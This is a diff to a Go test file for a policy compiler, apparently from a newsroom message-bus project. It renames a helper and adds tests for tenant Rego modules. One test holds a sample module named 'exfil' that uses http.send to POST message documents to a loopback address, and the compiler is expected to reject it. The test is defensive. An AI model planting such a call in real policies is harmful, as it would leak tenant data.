@@ -43,11 +43,19 @@ func grant(name, conn string, pub *v1alpha1.PublishGrant, con *v1alpha1.ConsumeG
 	}
 }
 
-func policy(name, tenant, notOwner string, owners []v1alpha1.OwnerRule, handoffs []v1alpha1.Handoff) v1alpha1.OwnershipPolicy {
+func ownershipPolicy(name, tenant, notOwner string, owners []v1alpha1.OwnerRule, handoffs []v1alpha1.Handoff) v1alpha1.OwnershipPolicy {
 	return v1alpha1.OwnershipPolicy{
 		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
 		Spec: v1alpha1.OwnershipPolicySpec{TenantRef: v1alpha1.LocalObjectReference{Name: tenant},
 			NotOwner: notOwner, Owners: owners, Handoffs: handoffs},
+	}
+}
+
+// withModule adds a workspace Rego module declaring one warning rule.
+func withModule(name, rego string) func(*v1alpha1.Tenant) {
+	return func(t *v1alpha1.Tenant) {
+		t.Spec.Policies = append(t.Spec.Policies, v1alpha1.PolicyModule{Name: name, Rego: rego,
+			Rules: []v1alpha1.TenantRule{{ID: "tenant.long"}}})
 	}
 }
 
@@ -161,9 +169,9 @@ func TestCompile(t *testing.T) {
 		in: Input{
 			Tenant: tenant("newsroom"),
 			OwnershipPolicies: []v1alpha1.OwnershipPolicy{
-				policy("b", "newsroom", "refuse", []v1alpha1.OwnerRule{{StoryIDPattern: "b-.*", SystemID: "wire"}}, nil),
-				policy("a", "newsroom", "tolerate", []v1alpha1.OwnerRule{{StoryIDPattern: "a-.*", SystemID: "cms"}}, []v1alpha1.Handoff{{StoryID: "s1", ToSystemID: "wire"}}),
-				policy("z", "elsewhere", "refuse", []v1alpha1.OwnerRule{{StoryIDPattern: "(", SystemID: "x"}}, nil),
+				ownershipPolicy("b", "newsroom", "refuse", []v1alpha1.OwnerRule{{StoryIDPattern: "b-.*", SystemID: "wire"}}, nil),
+				ownershipPolicy("a", "newsroom", "tolerate", []v1alpha1.OwnerRule{{StoryIDPattern: "a-.*", SystemID: "cms"}}, []v1alpha1.Handoff{{StoryID: "s1", ToSystemID: "wire"}}),
+				ownershipPolicy("z", "elsewhere", "refuse", []v1alpha1.OwnerRule{{StoryIDPattern: "(", SystemID: "x"}}, nil),
 			},
 		},
 		check: func(t *testing.T, w *config.Workspace) {
@@ -176,7 +184,7 @@ func TestCompile(t *testing.T) {
 	}, {
 		name: "an ownership pattern that does not compile is an error naming the policy",
 		in: Input{Tenant: tenant("newsroom"), OwnershipPolicies: []v1alpha1.OwnershipPolicy{
-			policy("bad", "newsroom", "tolerate", []v1alpha1.OwnerRule{{StoryIDPattern: "(", SystemID: "cms"}}, nil),
+			ownershipPolicy("bad", "newsroom", "tolerate", []v1alpha1.OwnerRule{{StoryIDPattern: "(", SystemID: "cms"}}, nil),
 		}},
 		wantErr: "OwnershipPolicy bad: owners[0].storyIDPattern",
 	}, {
@@ -208,6 +216,32 @@ func TestCompile(t *testing.T) {
 			gen, thief := w.Connections[0], w.Connections[1]
 			if gen.ClientID != "gen" || gen.SecretHash == "" || thief.ClientID != "thief" || thief.SecretHash != "" {
 				t.Errorf("gen %+v, thief %+v", gen, thief)
+			}
+		},
+	}, {
+		name:    "a module that is not Rego is an error naming the module and the parse error",
+		in:      Input{Tenant: tenant("newsroom", withModule("desk", "package x\n\nthis is not rego at all"))},
+		wantErr: "tenant/desk.rego:3: rego_parse_error",
+	}, {
+		name: "a module calling http.send is an error naming the module and the built-in",
+		in: Input{Tenant: tenant("newsroom", withModule("exfil", `package storybus.tenant.exfil
+
+warn contains {"rule": "tenant.sent", "message": "sent"} if {
+	http.send({"method": "POST", "url": "http://127.0.0.1:1/", "body": input.message.doc})
+}
+`))},
+		wantErr: "workspace module exfil, line 4: built-in http.send is not allowed in workspace policies",
+	}, {
+		name: "a module that compiles is in the configuration",
+		in: Input{Tenant: tenant("newsroom", withModule("desk", `package storybus.tenant.desk
+
+warn contains {"rule": "tenant.long", "message": "long"} if {
+	count(input.message.doc.payload.headline) > 100
+}
+`))},
+		check: func(t *testing.T, w *config.Workspace) {
+			if len(w.Policies) != 1 || w.Policies[0].Name != "desk" || w.Policies[0].Rules[0].ID != "tenant.long" {
+				t.Errorf("policies: %+v", w.Policies)
 			}
 		},
 	}, {
